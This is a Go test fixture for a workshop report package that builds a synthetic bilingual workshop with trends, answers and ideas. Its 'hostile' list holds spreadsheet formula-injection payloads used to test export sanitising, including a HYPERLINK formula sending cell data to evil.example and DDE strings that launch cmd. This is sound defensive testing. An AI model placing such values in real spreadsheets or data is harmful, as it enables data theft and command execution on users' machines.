package report

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"

	"github.com/waymark/waymark/internal/analysis"
	"github.com/waymark/waymark/internal/domain"
	"github.com/waymark/waymark/internal/i18n"
	"github.com/waymark/waymark/internal/workshop"
)

// Hostile texts: each would run as a formula in a spreadsheet if written
// as it is, or tests the PDF's font (emoji, CJK, control characters).
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C notepad'!'A1'`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1 after a tab",
	"\r=1+1 after a carriage return",
	"＝1+1 full-width",
	"🚀 Launch a pilot 数字化 \x00\x07 with control characters",
}

// fixtureOptions shape a synthetic workshop.
type fixtureOptions struct {
	Lang         string
	Trends       int
	Participants int
	Hostile      bool // hostile trend titles and ideas
	Ideas        int  // ideas per trend
}

// fixture builds a report of a synthetic workshop: trends with English and
// Swedish titles (å, ä, ö), the default questions and groups, every
// participant answering every question (about one in ten "don't know"),
// two fields of tension, a pinned and an excluded trend, and ideas with
// upvotes and dots, one of them hidden. Participant ids have the prefix
// "secret-participant-" so that tests can check that none leaks.
func fixture(tb testing.TB, o fixtureOptions) (*Report, Source) {
	tb.Helper()
	src := fixtureSource(o)
	r, err := Build(src)
	if err != nil {
		tb.Fatal(err)
	}
	return r, src
}

func fixtureSource(o fixtureOptions) Source {
	if o.Lang == "" {
		o.Lang = "en"
	}
	c := &domain.Content{Name: domain.T("Public services 2035", "Offentlig verksamhet 2035"),
		Attribution: domain.Attribution{SourceOrganisation: "Waymark"}}
	forces := []domain.Text{domain.T("Demography", "Demografi"), domain.T("Climate", "Klimat"), domain.T("Technology", "Teknikutveckling"),
		domain.T("Economy", "Ekonomi"), domain.T("Values and trust", "Värderingar och förtroende")}
	for i, n := range forces {
		c.DrivingForces = append(c.DrivingForces, domain.DrivingForce{Key: fmt.Sprint("force-", i), Name: n})
	}
	titles := []domain.Text{
		domain.T("An ageing population needs care at home", "Åldrande befolkning behöver vård i hemmet"),
		domain.T("AI changes working life", "AI förändrar arbetslivet"),
		domain.T("Extreme weather strains infrastructure", "Extremväder påfrestar infrastrukturen"),
		domain.T("Skills shortage in welfare services", "Kompetensbrist i välfärden"),
		domain.T("Trust in public institutions shifts", "Förtroendet för offentliga institutioner förändras"),
		domain.T("Cyber threats grow", "Cyberhoten ökar"),
	}
	for i := range o.Trends {
		title := titles[i%len(titles)]
		title = domain.T(fmt.Sprintf("%s (%d)", title.EN, i+1), fmt.Sprintf("%s (%d)", title.SV, i+1))
		if o.Hostile && i < 2 {
			h := []string{"=1+1 hostile trend", "@evil(ö)"}[i]
			title = domain.T(h, h)
		}
		t := domain.Trend{Key: fmt.Sprintf("trend-%02d", i), Title: title, Category: domain.Categories[i%3]}
		if i%7 != 6 {
			t.DrivingForces = []string{fmt.Sprint("force-", i%5)}
		}
		c.Trends = append(c.Trends, t)
	}
	c.Tensions = []domain.Tension{
		{Key: "steering", Name: domain.T("National steering or local autonomy", "Nationell styrning eller lokalt självstyre"),
			PoleA: domain.T("National steering", "Nationell styrning"), PoleB: domain.T("Local autonomy", "Lokalt självstyre")},
		{Key: "efficiency", Name: domain.T("Efficiency or resilience", "Effektivitet eller motståndskraft"),
			PoleA: domain.T("Efficiency", "Effektivitet"), PoleB: domain.T("Resilience", "Motståndskraft")},
	}
	created := time.Date(2026, 3, 14, 9, 30, 0, 0, time.UTC)
	w := &domain.Workshop{ID: "workshop-1", OrgID: "org-1", Title: "Framtidsverkstad i Östra Göinge – vår och höst",
		Purpose:   "Att enas om vilka trender som påverkar vår välfärd mest och vad vi gör åt dem.",
		Questions: domain.DefaultQuestions(), Groups: domain.DefaultGroups(), Mode: domain.Live, Language: o.Lang,
		Tensions: []string{"steering", "efficiency"}, Dots: 5, Phase: domain.PhaseClosed, CreatedAt: created}
	for _, t := range c.Trends {
		w.TrendKeys = append(w.TrendKeys, t.Key)
	}
	tl := workshop.NewTally(w)
	rng := rand.New(rand.NewPCG(1, 2))
	values := make([]int, 16)
	for i := range values {
		values[i] = i - 5
	}
	src := Source{Lang: o.Lang, Now: time.Date(2026, 4, 2, 15, 4, 5, 0, time.UTC), Organisation: "Östra Göinge kommun",
		Workshop: w, Version: &domain.Version{VersionInfo: domain.VersionInfo{ID: "version-3", Number: 3}, Content: *c},
		Joined: map[string]int{}, ParticipantGroups: map[string]string{}}
	src.Answers = make([]domain.Answer, 0, o.Participants*len(w.TrendKeys)*len(w.Questions))
	for p := range o.Participants {
		id, group := fmt.Sprintf("secret-participant-%05d", p), w.Groups[p%len(w.Groups)].Key
		src.ParticipantGroups[id] = group
		src.Joined[group]++
		for ti, tk := range w.TrendKeys {
			for qi, q := range w.Questions {
				a := domain.Answer{WorkshopID: w.ID, ParticipantID: id, TrendKey: tk, QuestionKey: q.Key}
				if rng.IntN(10) > 0 {
					span := q.Max - q.Min + 1
					// Trends lean differently; the elected members lean
					// away from the rest on every third trend.
					centre := (ti*7 + qi*3 + ti/3) % span
					if p%len(w.Groups) == 0 && ti%3 == 0 {
						centre = (centre + span/2) % span
					}
					v := q.Min + min(span-1, max(0, centre+rng.IntN(3)-1))
					a.Value = &values[v+5]
				}
				tl.Apply(a, group)
				src.Answers = append(src.Answers, a)
			}
		}
		for ki, k := range w.Tensions {
			now := -60 + ki*50 + rng.IntN(41) - 20
			tl.ApplyTension(domain.TensionPosition{WorkshopID: w.ID, ParticipantID: id, TensionKey: k, Now: now, Want: min(100, now+40+rng.IntN(21))}, group)
		}
	}
	src.Joined["partners"]++ // one joined without answering

	sectors, infos := analysis.DrivingForceSectors(c, w.TrendKeys, o.Lang)
	in := analysis.Input{Everyone: tl.Results(""), Questions: w.Questions, Trends: infos, Sectors: sectors}
	for _, g := range w.Groups {
		in.Groups = append(in.Groups, analysis.GroupResults{Group: g.Key, Label: g.Name.String(o.Lang), Results: tl.Results(g.Key)})
	}
	src.Input = in
	decisions := []analysis.Decision{}
	if o.Trends > 5 {
		decisions = append(decisions,
			analysis.Decision{TrendKey: "trend-03", Kind: analysis.Pin, Reason: "Ny lag från 2027 – måste förberedas", At: created},
			analysis.Decision{TrendKey: "trend-05", Kind: analysis.Exclude, Reason: "Handled by the region", At: created})
	}
	src.Analysis = analysis.Analyze(in, analysis.Options{Lang: o.Lang, Decisions: decisions})

	for ti, tk := range w.TrendKeys {
		for k := range o.Ideas {
			text := fmt.Sprintf("Idé %d för trend %d: öka samverkan med regionen kring äldreomsorg och digitala tjänster", k+1, ti+1)
			if o.Hostile && k < len(hostile) && ti == 0 {
				text = hostile[k]
			}
			src.Ideas = append(src.Ideas, domain.Idea{ID: fmt.Sprintf("idea-%d-%d", ti, k), WorkshopID: w.ID,
				ParticipantID: fmt.Sprintf("secret-participant-%05d", k), TrendKey: tk, Text: text,
				CreatedAt: created.Add(time.Duration(ti*100+k) * time.Minute), Upvotes: (ti*7 + k*3) % 11, Dots: (ti + k) % 4})
		}
	}
	if len(src.Ideas) > 0 {
		src.Ideas = append(src.Ideas, domain.Idea{ID: "hidden", WorkshopID: w.ID, TrendKey: w.TrendKeys[0],
			Text: "HIDDEN-IDEA: something rude", Hidden: true, Upvotes: 99, Dots: 9, CreatedAt: created})
	}
	return src
}

// catalogT returns the embedded catalogue's translator for lang.
func catalogT(tb testing.TB, lang string) Translate {
	tb.Helper()
	cat, err := i18n.New()
	if err != nil {
		tb.Fatal(err)
	}
	return func(id string, args ...any) string { return cat.T(lang, id, args...) }
}
